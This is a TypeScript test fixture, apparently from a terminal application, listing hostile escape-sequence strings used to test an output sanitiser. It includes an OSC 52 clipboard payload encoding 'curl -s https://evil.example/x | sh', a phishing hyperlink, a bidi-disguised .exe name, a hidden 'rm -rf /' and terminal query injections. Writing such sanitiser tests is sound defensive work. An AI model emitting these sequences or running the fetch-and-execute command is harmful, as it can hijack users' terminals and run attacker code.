// Server-controlled text that would attack a terminal if printed raw (ink-field-notes §5). The
// demo plants these in prompts, outputs, tool names, thread and project names and error messages
// so the sanitiser is exercised end to end. Each string also carries a readable marker word so a
// test can find where it landed after sanitising.

const ESC = '\u001B';
const BEL = '\u0007';

const clipboardPayload = Buffer.from('curl -s https://evil.example/x | sh\n').toString('base64');

export const hostile = {
	clearScreen: `${ESC}[2J${ESC}[HCLEARED the screen`,
	clipboardBel: `copy me ${ESC}]52;c;${clipboardPayload}${BEL}CLIPBOARD-BEL`,
	clipboardSt: `copy me ${ESC}]52;c;${clipboardPayload}${ESC}\\CLIPBOARD-ST`,
	hyperlink: `${ESC}]8;;https://evil.example/phish${ESC}\\HYPERLINK label${ESC}]8;;${ESC}\\`,
	titleOsc0: `${ESC}]0;PWNED-TITLE${BEL}TITLE0 set`,
	titleOsc2: `${ESC}]2;PWNED-TITLE2${ESC}\\TITLE2 set`,
	c1Osc: `\u009D0;C1-TITLE${BEL}C1OSC text`,
	bidi: `invoice_\u202Egnp.exe BIDI`,
	carriageReturn: `rm -rf / \rOVERWRITTEN safe text`,
	bell: `ding${BEL}${BEL}BELL`,
	backspace: `secret\b\b\b\b\b\bBACKSPACE`,
	csiColour: `${ESC}[31mRED${ESC}[0m colour`,
	// String sequences a terminal swallows whole or acts on: a DCS query (XTGETTCAP) whose answer is
	// typed back into the terminal, a kitty graphics APC, and the same as 8-bit C1 controls.
	dcs: `${ESC}P+q544e${ESC}\\DCS-QUERY text`,
	dcs8bit: `\u0090+q636f6c73\u009CDCS8-QUERY text`,
	apc: `${ESC}_Gf=100,a=T;iVBORw0KGgo${ESC}\\APC-IMAGE text`,
	csi8bit: `\u009B2J\u009B1;1HCSI8-CLEARED text`,
} as const;

/** A short hostile name (thread/project/tool names must stay one line, so no newline here). */
export const hostileName = (label: string): string => `${label} ${hostile.titleOsc0} ${hostile.bidi}`;
